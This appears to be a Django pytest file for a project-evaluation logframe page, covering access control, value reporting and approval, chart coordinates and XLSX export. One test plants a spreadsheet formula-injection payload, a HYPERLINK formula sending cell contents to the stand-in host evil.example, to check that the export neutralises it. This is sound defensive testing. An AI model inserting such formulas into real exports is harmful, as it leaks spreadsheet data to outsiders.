"""The logframe page (200 / 404 / 403 / 422), its chart and its XLSX export."""

from datetime import date
from io import BytesIO

import pytest
from django.utils import translation
from openpyxl import load_workbook

from mostovi.evaluation.logframe import services
from mostovi.evaluation.logframe.chart import chart
from mostovi.evaluation.logframe.selectors import indicator_get
from mostovi.evaluation.models import ReportedValue

from .world import logframe_world, report

pytestmark = pytest.mark.django_db


@pytest.fixture
def setup():
    world, project, results, losses, trained = logframe_world()
    value = report(world, project, losses, "35")
    services.value_transition(actor=world.officer_nis, project=project, reported=value, to="submitted")
    services.value_transition(actor=world.officer_lyon, project=project, reported=value, to="approved")
    return world, project, results, losses, trained


def url(project, suffix=""):
    return f"/en/evaluation/projects/{project.pk}/{suffix}"


def test_page_for_a_partner(client, setup):
    world, project, _results, losses, _trained = setup
    client.force_login(world.officer_nis)
    response = client.get(url(project))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Impact (overall objective)" in html and "Part de l&#x27;eau perdue" in html
    assert f'data-testid="latest-{losses.pk}">35 (30 Jun 2027)' in html
    assert f'data-testid="chart-{losses.pk}"' in html and "<title " in html and "<desc " in html
    assert f'data-testid="chart-table-{losses.pk}"' in html
    assert "Report a value" in html and "Add a result" in html


def test_page_hidden_from_outsiders(client, setup):
    world, project, *_ = setup
    client.force_login(world.outsider)
    assert client.get(url(project)).status_code == 404
    assert client.get(url(project, "logframe.xlsx")).status_code == 404
    assert client.get("/en/evaluation/projects/999999/").status_code == 404


def test_lyon_cannot_report_for_nis_on_the_page(client, setup):
    world, project, _results, losses, _trained = setup
    client.force_login(world.officer_lyon)
    response = client.post(
        url(project, f"indicators/{losses.pk}/values/"),
        {
            f"v{losses.pk}-period_start": "2027-07-01",
            f"v{losses.pk}-period_end": "2027-12-31",
            f"v{losses.pk}-value": "30",
        },
    )
    assert response.status_code == 403
    assert f"Only members of {world.nis} report the values of this indicator." in response.content.decode()
    assert ReportedValue.objects.count() == 1


def test_nis_reports_in_its_format_and_a_wrong_value_is_refused(client, setup):
    world, project, _results, losses, _trained = setup
    client.force_login(world.officer_nis)
    prefix = f"v{losses.pk}"
    refused = client.post(
        url(project, f"indicators/{losses.pk}/values/"),
        {
            f"{prefix}-period_start": "2027-07-01",
            f"{prefix}-period_end": "2027-12-31",
            f"{prefix}-value": "120",
        },
    )
    assert refused.status_code == 422 and "A percentage is between 0 and 100." in refused.content.decode()
    saved = client.post(
        f"/fr/evaluation/projects/{project.pk}/indicators/{losses.pk}/values/",
        {
            f"{prefix}-period_start": "2027-07-01",
            f"{prefix}-period_end": "2027-12-31",
            f"{prefix}-value": "31,5",
        },
    )
    assert saved.status_code == 302
    assert str(ReportedValue.objects.latest("id").value) == "31.5000"


def test_return_and_submit_again_on_the_page(client, setup):
    world, project, _results, losses, _trained = setup
    value = report(world, project, losses, "33", start=date(2027, 7, 1), end=date(2027, 12, 31))
    services.value_transition(actor=world.officer_nis, project=project, reported=value, to="submitted")
    step = url(project, f"indicators/{losses.pk}/values/{value.pk}/")
    client.force_login(world.officer_nis)
    assert client.post(step + "approve/").status_code == 403
    client.force_login(world.elected_lyon)
    assert client.post(step + "return/", {"comment": "Chiffre du S2 ?"}).status_code == 302
    client.force_login(world.officer_nis)
    page = client.get(url(project)).content.decode()
    assert "Chiffre du S2 ?" in page and "Submit again" in page
    assert client.post(step + "submit/", {"value": "32"}).status_code == 302
    value.refresh_from_db()
    assert value.status == "submitted" and str(value.value) == "32.0000"
    assert client.post(step + "submit/").status_code == 409


def test_approve_is_the_filled_button_and_return_the_outline_one_with_its_own_words(client, setup):
    world, project, _results, losses, _trained = setup
    value = report(world, project, losses, "33", start=date(2027, 7, 1), end=date(2027, 12, 31))
    services.value_transition(actor=world.officer_nis, project=project, reported=value, to="submitted")
    client.force_login(world.officer_lyon)
    html = client.get(url(project)).content.decode()
    assert (
        f'<button type="submit" class="decision-approve" data-testid="approve-{value.pk}">Approve</button>'
    ) in html
    assert (
        f'<button type="submit" class="secondary outline decision-return" data-testid="return-{value.pk}">'
        "Return for correction</button>"
    ) in html


def test_chart_points(setup):
    _world, project, _results, losses, _trained = setup
    with translation.override("en"):
        drawn = chart(indicator_get(project=project, pk=losses.pk))
    # Figures of 30–40 % give an axis of 25–45 % over 184 px (y = 16 + 184 × (45 − v) / 20); dates over
    # 384 px from x = 88: 2026-01-01 → 2027-12-31 is 729 days, 2027-06-30 is day 545 (88 + 384 × 545 / 729).
    assert [(p.kind, p.on.isoformat(), str(p.value), p.x, p.y) for p in drawn["points"]] == [
        ("baseline", "2026-01-01", "40", "88.0", "62.0"),
        ("actual", "2027-06-30", "35", "375.1", "108.0"),
        ("target", "2027-12-31", "30", "472.0", "154.0"),
    ]
    assert drawn["actual_line"] == "375.1,108.0" and drawn["baseline_y"] == "62.0"
    assert [t["label"] for t in drawn["value_ticks"]] == ["25%", "30%", "35%", "40%", "45%"]
    assert [t["label"] for t in drawn["time_ticks"]] == ["1 Jan 2026", "30 Jun 2027", "31 Dec 2027"]


def test_export_xlsx(client, setup):
    world, project, *_ = setup
    client.force_login(world.officer_lyon)
    response = client.get(url(project, "logframe.xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(BytesIO(response.content)).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[1][:3] == ["Level", "Result", "Indicator"]
    assert [r[0] for r in rows[2:]] == [
        "Impact (overall objective)",
        "Outcome (specific objective)",
        "Output (expected result)",
    ]
    assert rows[3][2:10] == [
        "Part de l'eau perdue",
        "Percentage",
        "%",
        40,
        rows[3][6],
        "2027-12-31: 30",
        35,
        "2027-01-01 – 2027-06-30",
    ]
    assert rows[3][6].date() == date(2026, 1, 1) and rows[3][12] == str(world.nis)


def _exported_rows(client, world, project):
    client.force_login(world.officer_lyon)
    response = client.get(url(project, "logframe.xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    return sheet, [list(r) for r in sheet.iter_rows(values_only=True)]


def test_export_never_writes_a_typed_formula(client, setup):
    world, project, _results, losses, _trained = setup
    losses.title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    losses.unit = "@SUM(1+1)"
    losses.sources = "+33 4 72 10 30 30"
    losses.save()
    sheet, rows = _exported_rows(client, world, project)
    assert rows[3][2] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
    assert rows[3][4] == "'@SUM(1+1)" and rows[3][10] == "'+33 4 72 10 30 30"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_survives_control_characters_in_titles(client, setup):
    world, project, results, losses, _trained = setup
    losses.title = "Pertes\x1b[31m\x0b réseau"
    losses.save()
    # BEL rather than NUL: PostgreSQL text cannot hold a NUL at all (the services refuse both).
    results["impact"].title = "Eau\x07 potable"
    results["impact"].save()
    _sheet, rows = _exported_rows(client, world, project)
    assert rows[2][1] == "Eau potable" and rows[3][2] == "Pertes[31m réseau"


def test_export_keeps_negative_numbers_as_numbers(client, setup):
    world, project, _results, losses, _trained = setup
    losses.baseline_value = -5
    losses.save()
    _sheet, rows = _exported_rows(client, world, project)
    assert rows[3][5] == -5
